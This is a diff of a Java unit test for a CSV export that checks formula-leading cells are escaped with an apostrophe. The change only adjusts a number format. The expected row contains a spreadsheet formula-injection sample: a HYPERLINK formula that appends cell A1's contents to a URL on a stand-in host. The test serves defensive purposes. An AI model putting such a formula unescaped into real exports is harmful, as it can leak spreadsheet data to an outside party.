@@ -37,7 +37,7 @@ class ExportTest {
 
     assertThat(lignes.get(1))
         .isEqualTo(
-            "\"'=HYPERLINK(\"\"https://exemple.invalid/?\"\"&A1,\"\"Voir\"\")\";'@SOMME(A1:A9);-12;-0,5");
+            "\"'=HYPERLINK(\"\"https://exemple.invalid/?\"\"&A1,\"\"Voir\"\")\";'@SOMME(A1:A9);-12;-0,50");
   }
 
   private static LigneFormation ligne(String libelleFormation, String libelleDispositif) {
